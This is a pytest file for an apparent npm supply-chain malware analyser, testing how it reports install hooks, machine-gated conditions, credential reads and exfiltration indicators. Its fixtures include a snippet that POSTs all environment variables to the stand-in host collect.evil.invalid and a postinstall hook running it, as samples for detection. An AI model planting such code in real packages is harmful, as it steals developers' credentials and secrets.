import pytest

from pratique.core.location import Location
from pratique.respond.behaviour.reading import describe
from pratique.respond.behaviour.value import Behaviour, Detection, Moment, Role
from pratique.respond.wanted.value import IndicatorKind
from tests.analysis.inspecting import package_json
from tests.respond.behaviour.samples import FILES, STEALER, behaviour, seen

HEAD = 'const os = require("os"), https = require("https"), cp = require("child_process");\n'
SENT = """  const request = https.request("https://collect.evil.invalid/drop", { method: "POST" });
  request.write(JSON.stringify(process.env));
  request.end();
"""


def of(role: Role, told: Behaviour) -> list[Detection]:
    return [detection for detection in told.detections if detection.role is role]


def indicators(told: Behaviour, kind: IndicatorKind) -> list[str]:
    return [one.value for one in told.indicators if one.kind is kind]


def gated(condition: str) -> Behaviour:
    return behaviour(
        {"package.json": FILES["package.json"], "gather.js": f"{HEAD}if ({condition}) {{\n{SENT}}}\n"}
    )


def test_an_install_hook_is_a_trigger_with_its_line() -> None:
    [trigger] = behaviour().triggers
    assert (Moment.INSTALL, "postinstall: node gather.js", Location("package.json", 5)) == (
        trigger.moment,
        trigger.words,
        trigger.place,
    )


def test_an_import_is_a_trigger() -> None:
    told = behaviour({"index.js": f"{HEAD}{SENT}"})
    assert [(Moment.IMPORT, "import of index.js")] == [(one.moment, one.words) for one in told.triggers]


def test_deeds_are_listed_from_what_is_taken_to_what_stays() -> None:
    told = behaviour()
    roles = list(dict.fromkeys(detection.role for detection in told.detections))
    assert [Role.CONDITION, Role.TAKES, Role.DOWNLOADS, Role.SENDS, Role.STAYS] == roles
    assert {Moment.INSTALL} == {detection.moment for detection in told.detections}


def test_each_deed_has_a_file_and_a_line() -> None:
    for detection in behaviour().detections:
        assert "gather.js" == detection.places[0].path
        assert detection.places[0].line


def test_what_is_sent_has_its_host_and_is_proven_by_the_flow() -> None:
    [first, *_] = of(Role.SENDS, behaviour())
    assert (True, "collect.evil.invalid", Location("gather.js", 5)) == (
        first.proven,
        first.host,
        first.places[0],
    )


def test_one_line_is_described_at_most_three_times_for_one_role() -> None:
    ends = [(detection.role, detection.places[0]) for detection in behaviour().detections]
    assert 3 >= max(map(ends.count, ends))


def test_credentials_are_named() -> None:
    told = behaviour()
    assert ["reads credentials: .npmrc"] == [detection.words for detection in of(Role.TAKES, told)]
    assert (".npmrc", "all environment variables") == told.reads


@pytest.mark.parametrize(
    ("condition", "words"),
    [
        ('os.hostname() === "build-7"', "looks for a host"),
        ('os.userInfo().username === "root"', "looks for a user"),
        ("process.env.GITHUB_ACTIONS", "looks for a CI system"),
        ("Date.now() > 1700000000000", "waits for a time"),
    ],
)
def test_a_condition_on_the_machine_is_told_with_its_line(condition: str, words: str) -> None:
    found = [detection for detection in gated(condition).conditions if detection.words.startswith(words)]
    assert found, gated(condition).detections
    assert Location("gather.js", 2) in {place for detection in found for place in detection.places}


def test_code_without_a_condition_has_none() -> None:
    assert () == gated("true").conditions


def test_hosts_addresses_files_and_hashes_are_indicators_with_their_place() -> None:
    told = behaviour()
    assert ["collect.evil.invalid"] == indicators(told, IndicatorKind.HOST)
    assert ["https://collect.evil.invalid/drop"] == indicators(told, IndicatorKind.URL)
    assert ["act.mond.js", ".github/workflows/discussion.yaml"] == indicators(told, IndicatorKind.PATH)
    assert 1 == len(indicators(told, IndicatorKind.FILE_HASH))
    assert "sample-1.0.0.tgz: gather.js:4" == told.indicators[0].origin


def test_of_a_service_for_everybody_only_the_whole_address_is_an_indicator() -> None:
    hook = "https://discord.com/api/webhooks/0/inert"
    told = behaviour({**FILES, "gather.js": STEALER.replace("https://collect.evil.invalid/drop", hook)})
    assert ([hook], []) == (indicators(told, IndicatorKind.URL), indicators(told, IndicatorKind.HOST))


def test_a_host_that_every_program_asks_is_no_indicator() -> None:
    told = behaviour({**FILES, "gather.js": STEALER + 'https.get("https://example.com/terms");\n'})
    assert ["collect.evil.invalid"] == indicators(told, IndicatorKind.HOST)


def test_a_file_that_every_machine_has_is_no_indicator() -> None:
    told = behaviour({**FILES, "gather.js": STEALER.replace("act.mond.js", "index.js")})
    assert [".github/workflows/discussion.yaml"] == indicators(told, IndicatorKind.PATH)


def test_a_release_without_a_chain_has_no_deeds_and_no_indicators() -> None:
    told = behaviour(
        {"package.json": package_json(), "index.js": 'require("https").get("https://far.invalid");'}
    )
    assert ((), ()) == (told.detections, told.indicators)


def test_what_could_not_be_read_is_told() -> None:
    told = behaviour({**FILES, "gather.js": STEALER, "index.js": "function (" * 4000})
    assert told.unread
    assert told.unread[0].startswith("index.js (")


def test_a_file_that_is_no_archive_is_told_as_unread() -> None:
    told = describe(*seen(b"no archive"))
    assert ((), True) == (told.detections, bool(told.unread))
